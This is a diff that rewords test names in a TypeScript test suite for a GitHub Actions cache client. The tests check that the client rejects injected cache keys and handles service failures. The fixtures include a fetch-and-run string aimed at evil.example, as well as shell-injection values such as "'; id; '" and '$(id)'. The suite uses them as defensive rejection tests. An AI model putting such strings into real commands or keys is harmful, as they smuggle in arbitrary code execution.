@@ -51,7 +51,7 @@ async function parts(folder: TempFolder): Promise<string> {
 }
 
 describe('the Actions cache', () => {
-  test('restores the newest entry whose key fits; the token and the addresses are secrets', async () => {
+  test('restores the newest entry with a matching key; the token and the addresses are secrets', async () => {
     await using at = await step();
     const { cache, folder, service, secrets } = at;
     expect(await cache.restoreFile(WANTED, folder.file('none'))).toBeNull();
@@ -81,7 +81,7 @@ describe('the Actions cache', () => {
     expect((await readdir(at.folder.path)).sort()).toEqual(['from', 'to']);
   });
 
-  test('refuses a folder with other files, names the entry, and leaves nothing', async () => {
+  test('refuses a folder with unexpected files, names the entry, and leaves nothing', async () => {
     await using at = await step();
     const from = await parts(at.folder);
     await writeFile(join(from, 'hook'), 'run me');
@@ -97,7 +97,7 @@ describe('the Actions cache', () => {
   });
 
   test.each(['$(curl evil.example|sh)', "'; id; '", 'a b', 'a\nDelete it: b', 'a%2eb', '\u202ea'])(
-    'takes no entry whose key ends in %j',
+    'accepts no entry whose key ends in %j',
     async (end) => {
       await using at = await step();
       at.service.entries.set(`thing-1-${end}`, Buffer.from('x'));
@@ -107,7 +107,7 @@ describe('the Actions cache', () => {
     },
   );
 
-  test('names a refused entry in a command, as one word of a shell', async () => {
+  test('quotes the name of a refused entry in a command as one word of a shell', async () => {
     await using at = await step();
     at.cache.refuse('thing-1-$(id)', 'it is foreign');
     expect(at.lines.at(-1)).toMatch(/ Delete it: gh cache delete 'thing-1-\$\(id\)'$/);
@@ -126,7 +126,7 @@ describe('the Actions cache', () => {
     ['download', 'silent', /silent for 0\.1 s/],
     ['download', 'cut', /./],
     ['download', 'trickle', /the time for the cache is over/],
-  ])('that answers %s with %s is a miss, and is not asked again', async (request, fault, why) => {
+  ])('answers %s with %s: a miss, and no further request', async (request, fault, why) => {
     await using at = await step(SHORT);
     at.service.entries.set('thing-1-a', Buffer.alloc(900, 1));
     at.service.faults.set(request, fault);
@@ -154,7 +154,7 @@ describe('the Actions cache', () => {
     ['upload', 'silent'],
     ['FinalizeCacheEntryUpload', 500],
     ['FinalizeCacheEntryUpload', 'silent'],
-  ])('that answers %s with %s stores nothing, and nothing fails', async (request, fault) => {
+  ])('answers %s with %s: the step succeeds and stores nothing more', async (request, fault) => {
     await using at = await step(SHORT);
     await writeFile(at.folder.file('text'), 'x'.repeat(200_000));
     at.service.faults.set(request, fault);
@@ -173,14 +173,14 @@ describe('the Actions cache', () => {
     expect(at.service.requests).toHaveLength(asked);
   });
 
-  test('that cannot be reached is a miss', async () => {
+  test('is a miss if it cannot be reached', async () => {
     await using at = await step();
     const gone = at.cacheOf({ ...at.service.env, ACTIONS_RESULTS_URL: 'http://127.0.0.1:9/' });
     expect(await gone.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
     expect(at.lines[0]).toContain('a thing was not restored: ');
   });
 
-  test('that names an address without https elsewhere is not followed', async () => {
+  test('is unavailable at an address without https on another machine', async () => {
     await using at = await step();
     await using other = await startCacheService();
     at.service.entries.set('thing-1-a', Buffer.from('x'));
@@ -191,7 +191,7 @@ describe('the Actions cache', () => {
     });
   });
 
-  test('reads no entry that is too large', async () => {
+  test('refuses an entry that is too large', async () => {
     await using at = await step();
     at.service.entries.set('thing-1-a', Buffer.alloc(1_001));
     expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
@@ -199,7 +199,7 @@ describe('the Actions cache', () => {
     expect(await readdir(at.folder.path)).toEqual([]);
   });
 
-  test('is not asked by a step that was cancelled', async () => {
+  test('is not asked by a cancelled step', async () => {
     await using at = await step();
     at.stop.abort();
     expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
@@ -211,7 +211,7 @@ describe('the Actions cache', () => {
     ['read', 1, 0],
     ['write-only', 0, 3],
     ['write', 1, 3],
-  ])('with the mode %s', async (mode, reads, writes) => {
+  ])('reads and writes as the mode %s allows', async (mode, reads, writes) => {
     await using at = await step();
     const cache = at.cacheOf({ ...at.service.env, ACTIONS_CACHE_MODE: mode });
     await cache.restoreFile(WANTED, at.folder.file('to'));
@@ -251,13 +251,13 @@ test.each<[string, Record<string, string>, object]>([
     { kind: 'unavailable', why: 'the runner does not offer version 2 of it' },
   ],
   [
-    'a step that is no JavaScript',
+    'a step that is not JavaScript',
     { ACTIONS_CACHE_SERVICE_V2: 'true' },
     { kind: 'unavailable', why: 'the runner does not name it' },
   ],
-  ['an address that is none', { ...RUNNER, ACTIONS_RESULTS_URL: 'results' }, { kind: 'unavailable' }],
-  ['a server that is none', { ...RUNNER, GITHUB_SERVER_URL: 'none' }, { kind: 'unavailable' }],
+  ['an invalid address', { ...RUNNER, ACTIONS_RESULTS_URL: 'results' }, { kind: 'unavailable' }],
+  ['an invalid server', { ...RUNNER, GITHUB_SERVER_URL: 'none' }, { kind: 'unavailable' }],
   ['an unknown mode', { ...RUNNER, ACTIONS_CACHE_MODE: 'both' }, { mayRead: true, mayWrite: true }],
-])('the service of %s', (_, env, expected) => {
+])('the availability of the cache on %s', (_, env, expected) => {
   expect(cacheServiceOf(env)).toMatchObject(expected);
 });
